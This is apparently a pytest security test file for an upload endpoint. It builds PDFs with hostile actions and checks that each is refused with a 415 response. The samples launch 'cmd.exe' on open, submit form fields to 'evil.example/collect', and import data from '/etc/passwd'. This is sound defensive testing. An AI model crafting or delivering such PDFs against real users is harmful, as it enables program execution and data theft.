"""PDFs whose actions reach beyond the page are refused like JavaScript: a /Launch action
starts a program or opens a file, /SubmitForm sends the form's fields to a URL,
/ImportData reads field values from a file. Each answers 415 naming the action, and
nothing is stored."""

import io

import pytest
from pypdf import PdfWriter
from pypdf.generic import (
    ArrayObject,
    DictionaryObject,
    NameObject,
    NumberObject,
    TextStringObject,
)

from tests.factories import pdf_bytes
from tests.security.test_hostile import media_files, post_upload

pytestmark = pytest.mark.django_db


def _pdf(modify):
    writer = PdfWriter()
    writer.add_blank_page(width=595, height=842)
    modify(writer)
    buffer = io.BytesIO()
    writer.write(buffer)
    return buffer.getvalue()


def _action(kind, **entries):
    action = {NameObject("/S"): NameObject(kind)}
    action.update({NameObject(f"/{k}"): v for k, v in entries.items()})
    return DictionaryObject(action)


def launch_on_open():
    """/OpenAction that starts a program as soon as the file is opened."""

    def modify(writer):
        action = _action("/Launch", F=TextStringObject("cmd.exe"))
        writer._root_object[NameObject("/OpenAction")] = writer._add_object(action)

    return _pdf(modify)


def submit_form_from_link():
    """A link annotation that posts the form's fields to a foreign URL."""

    def modify(writer):
        action = _action(
            "/SubmitForm",
            F=DictionaryObject(
                {
                    NameObject("/FS"): NameObject("/URL"),
                    NameObject("/F"): TextStringObject("https://evil.example/collect"),
                }
            ),
            Flags=NumberObject(4),
        )
        annotation = DictionaryObject(
            {
                NameObject("/Type"): NameObject("/Annot"),
                NameObject("/Subtype"): NameObject("/Link"),
                NameObject("/Rect"): ArrayObject([NumberObject(0)] * 4),
                NameObject("/A"): action,
            }
        )
        writer.pages[0][NameObject("/Annots")] = ArrayObject([writer._add_object(annotation)])

    return _pdf(modify)


def import_data_in_page_actions():
    """A page's additional action (on open) that imports field data from a file."""

    def modify(writer):
        action = _action("/ImportData", F=TextStringObject("/etc/passwd"))
        writer.pages[0][NameObject("/AA")] = DictionaryObject(
            {NameObject("/O"): writer._add_object(action)}
        )

    return _pdf(modify)


ACTIVE_PDFS = {
    "launch": (launch_on_open, "Launch"),
    "submit-form": (submit_form_from_link, "SubmitForm"),
    "import-data": (import_data_in_page_actions, "ImportData"),
}


@pytest.mark.parametrize("case", sorted(ACTIVE_PDFS))
def test_pdf_with_an_action_beyond_the_page_is_refused_with_the_reason(world, case):
    build, action = ACTIVE_PDFS[case]
    before, files = world.snapshot(), media_files()
    response = post_upload(world, build())
    assert response.status_code == 415, response.content
    assert action in response.json()["detail"]
    assert world.snapshot() == before
    assert media_files() == files


def test_plain_pdf_with_a_uri_link_is_still_accepted(world):
    """A web link is no active content: the refusal is not of every annotation."""

    def modify(writer):
        action = _action("/URI", URI=TextStringObject("https://example.org/"))
        annotation = DictionaryObject(
            {
                NameObject("/Type"): NameObject("/Annot"),
                NameObject("/Subtype"): NameObject("/Link"),
                NameObject("/Rect"): ArrayObject([NumberObject(0)] * 4),
                NameObject("/A"): action,
            }
        )
        writer.pages[0][NameObject("/Annots")] = ArrayObject([writer._add_object(annotation)])

    assert post_upload(world, _pdf(modify)).status_code == 201
    assert post_upload(world, pdf_bytes()).status_code == 201
